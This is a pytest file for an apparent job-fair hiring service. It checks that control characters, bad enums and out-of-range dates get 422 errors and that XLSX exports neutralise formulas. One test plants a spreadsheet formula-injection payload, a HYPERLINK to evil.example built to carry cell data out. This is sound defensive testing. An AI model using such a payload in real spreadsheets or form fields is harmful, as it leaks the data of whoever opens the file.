"""Issue 22 rows 4, 5 and 12: control characters, formulas in XLSX, bad enums and dates.

Each test replays the attack of the security review; every XLSX FairMatch writes must open
with neither a live formula nor an illegal character, and bad input answers 422 naming the field.
"""

from __future__ import annotations

import io
import json
import logging
from typing import Any

import httpx
import pytest
from fastapi import FastAPI
from openpyxl import Workbook, load_workbook
from sqlalchemy import update

from services.models import Posting, Resume
from tests.services.conftest import ADMIN_TOKEN, Api
from tests.services.factories import FAIR, make_posting, make_resume, posting_body, resume_body
from tests.support.pages import browser, csrf_of
from tests.support.portal import hiring_scene, portal_login
from tests.support.sqlite_only import database_url  # noqa: F401 - SQLite only


def _named(response: Any, field: str) -> bool:
    """A 422 whose detail names the field (JSON: in a loc; pages: in the message)."""
    if response.status_code != 422:
        return False
    if response.headers["content-type"].startswith("application/json"):
        return any(field in map(str, problem["loc"]) for problem in response.json()["detail"])
    return field in response.text


def _formulas_and_text(content: bytes) -> tuple[list[str], str]:
    """The formula cells of a workbook (sheet!cell) and all its text joined."""
    book = load_workbook(io.BytesIO(content))
    formulas, texts = [], []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    formulas.append(f"{sheet.title}!{cell.coordinate}")
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    return formulas, "\n".join(texts)


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("name", "王\u0001五"),
        ("desired_title", "数控车工\u0001"),
        ("school", "常州\u009b技师学院"),
        ("skills", "焊接\u007f"),
        ("experience", "三年\x1b[31m经验"),
        ("certificates", ["车工证\u0000"]),
        ("name", "王\ud800五"),
    ],
)
async def test_control_characters_in_json_fields_answer_422_naming_the_field(
    api: Api, field: str, value: object
) -> None:
    body = json.dumps(resume_body(**{field: value}))  # ASCII escapes carry lone surrogates too
    response = await api.client.post(
        "/api/resumes", content=body, headers={"content-type": "application/json"}
    )
    assert _named(response, field), response.text


async def test_tabs_and_newlines_stay_allowed_where_text_has_lines(api: Api) -> None:
    created = await make_resume(api, experience="2019–2022\t常州恒力\r\n数控车床操作")
    assert created["id"]
    refused = await api.request("POST", "/api/resumes", json=resume_body(name="王\n五"))
    assert _named(refused, "name"), "a one-line field takes no line break"


async def test_control_characters_in_posting_json_and_excel_import(api: Api) -> None:
    scene = await hiring_scene(api)
    refused = await api.request(
        "POST", "/api/postings", token=scene.a, json=posting_body(scene.fair_id, title="焊工\x02")
    )
    assert _named(refused, "title"), refused.text
    sheet = Workbook()
    assert sheet.active is not None
    sheet.active.append(["岗位名称", "", "", "", "", "", "", "薪资下限", "薪资上限"])
    # C1 characters are legal in XML, so an .xlsx file carries them (C0 ones it cannot)
    sheet.active.append(["焊\u009b工", "", "", "", "", "", "", 6000, 8000])
    buffer = io.BytesIO()
    sheet.save(buffer)
    async with browser(api) as client:
        await portal_login(client)
        form = await client.get("/portal/postings/import")
        imported = await client.post(
            "/portal/postings/import",
            data={"csrf": csrf_of(form.text), "fair_id": str(scene.fair_id)},
            files={"file": ("p.xlsx", buffer.getvalue(), "application/octet-stream")},
        )
    assert imported.status_code == 422 and "控制字符" in imported.text, imported.text[:500]


async def test_control_characters_in_page_forms_answer_422_naming_the_field(api: Api) -> None:
    scene = await hiring_scene(api)
    async with browser(api) as client:
        await portal_login(client)
        page = await client.get(f"/portal/postings/{scene.posting_a['id']}/candidates")
        noted = await client.post(
            f"/portal/applications/{scene.application_id}",
            data={"csrf": csrf_of(page.text), "stage": "contacted", "note": "电话\u0001已打"},
        )
        assert _named(noted, "note"), noted.text[:300]
    async with browser(api) as client:
        form = await client.get("/resume")
        values = resume_body(name="王\u0001五") | {"csrf": csrf_of(form.text), "consent": "on"}
        values.pop("certificates")
        submitted = await client.post("/resume", data=values)
        assert _named(submitted, "name") or submitted.status_code == 422, submitted.text[:300]
        assert "fm_seeker" not in submitted.headers.get("set-cookie", "")


async def test_report_xlsx_holds_no_formula_and_survives_odd_titles(api: Api) -> None:
    scene = await hiring_scene(api)
    risky = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
    posting = await make_posting(api, scene.a, scene.fair_id, title=risky)
    applied = await api.request(
        "POST",
        "/api/applications",
        token=scene.recommended["token"],
        json={"posting_id": posting["id"]},
    )
    assert applied.status_code == 201
    intention = await api.request(
        "POST",
        "/api/intentions",
        token=scene.a,
        json={"posting_id": posting["id"], "resume_id": scene.recommended["id"]},
    )
    assert intention.status_code == 201, intention.text
    report = await api.request("GET", f"/api/fairs/{scene.fair_id}/report.xlsx", token=ADMIN_TOKEN)
    assert report.status_code == 200
    formulas, text = _formulas_and_text(report.content)
    assert formulas == [] and "HYPERLINK" in text, "the title is kept as inert text"


async def test_candidate_export_and_template_hold_no_formula(api: Api) -> None:
    scene = await hiring_scene(api)
    await make_resume(api, name="=1+1", desired_title="@SUM(A1)")
    await api.settle()
    export = await api.request(
        "GET", f"/api/postings/{scene.posting_a['id']}/candidates/export?format=xlsx", token=scene.a
    )
    assert export.status_code == 200, export.text
    assert _formulas_and_text(export.content)[0] == []
    async with browser(api) as client:
        await portal_login(client)
        template = await client.get("/portal/postings/template.xlsx")
    assert template.status_code == 200 and _formulas_and_text(template.content)[0] == []


def test_one_writer_neutralises_formulas_and_illegal_characters() -> None:
    from services.exports.xlsx import Sheet, write_workbook

    content = write_workbook(
        [Sheet(title="a/b[c]:*?" * 5, header=["h"], rows=[["=1+1"], ["王\u0001五\u0085"], [7]])]
    )
    book = load_workbook(io.BytesIO(content))
    sheet = book.worksheets[0]
    assert len(sheet.title) <= 31 and not set(sheet.title) & set("/\\[]:*?")
    values = [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert values == ["'=1+1", "王五", 7]


def test_only_the_one_writer_builds_workbooks() -> None:
    from pathlib import Path

    root = Path(__file__).resolve().parents[2] / "services"
    writers = sorted(
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if "Workbook(" in path.read_text(encoding="utf-8")
    )
    assert writers == ["exports/xlsx.py"]


@pytest.mark.parametrize(
    ("starts_at", "field"),
    [("9999-12-31T23:00:00-05:00", "starts_at"), ("0001-01-01T01:00:00+08:00", "starts_at")],
)
async def test_fair_dates_out_of_range_answer_422(api: Api, starts_at: str, field: str) -> None:
    body = FAIR | {"starts_at": starts_at, "ends_at": "9999-12-31T23:59:00-05:00"}
    response = await api.request("POST", "/api/fairs", token=ADMIN_TOKEN, json=body)
    assert _named(response, field), response.text


async def test_bad_enums_on_portal_forms_answer_422_naming_the_field(api: Api) -> None:
    scene = await hiring_scene(api)
    async with browser(api) as client:
        await portal_login(client)
        page = await client.get(f"/portal/postings/{scene.posting_a['id']}/candidates")
        csrf = csrf_of(page.text)
        status = await client.post(
            f"/portal/postings/{scene.posting_a['id']}/status",
            data={"csrf": csrf, "status": "bogus"},
        )
        assert _named(status, "status"), status.text[:300]
        stage = await client.post(
            f"/portal/applications/{scene.application_id}", data={"csrf": csrf, "stage": "hired"}
        )
        assert _named(stage, "stage"), stage.text[:300]
    patched = await api.request(
        "PATCH", f"/api/applications/{scene.application_id}", token=scene.a, json={"stage": "hired"}
    )
    assert _named(patched, "stage"), patched.text


async def test_logs_carry_no_personal_values(api: Api, caplog: pytest.LogCaptureFixture) -> None:
    app: FastAPI = api.app

    @app.get("/__boom")
    async def boom() -> None:
        raise ValueError("王秘密 13912345678 cannot be used in worksheets")

    transport = httpx.ASGITransport(app=app, raise_app_exceptions=False)
    with caplog.at_level(logging.DEBUG):
        async with httpx.AsyncClient(transport=transport, base_url="http://testserver") as client:
            response = await client.get("/__boom")
    assert response.status_code == 500
    logged = (
        "\n".join(record.getMessage() + (record.exc_text or "") for record in caplog.records)
        + caplog.text
    )
    assert "ValueError" in logged and "/__boom" in logged
    assert "王秘密" not in logged and "13912345678" not in logged


async def test_rows_stored_before_the_fix_no_longer_break_any_xlsx(api: Api) -> None:
    scene = await hiring_scene(api)
    async with api.runtime.sessions() as session:  # as written by the code before issue 22
        await session.execute(
            update(Resume).where(Resume.id == scene.applicant["id"]).values(name="王\u0001五")
        )
        await session.execute(
            update(Posting).where(Posting.id == scene.posting_a["id"]).values(title="焊工\u0002")
        )
        await session.commit()
    intention = await api.request(
        "POST",
        "/api/intentions",
        token=scene.a,
        json={"posting_id": scene.posting_a["id"], "resume_id": scene.applicant["id"]},
    )
    assert intention.status_code == 201
    export = await api.request(
        "GET", f"/api/postings/{scene.posting_a['id']}/candidates/export?format=xlsx", token=scene.a
    )
    assert export.status_code == 200, export.text
    assert "王五" in _formulas_and_text(export.content)[1]
    report = await api.request("GET", f"/api/fairs/{scene.fair_id}/report.xlsx", token=ADMIN_TOKEN)
    assert report.status_code == 200
    assert "焊工" in _formulas_and_text(report.content)[1]
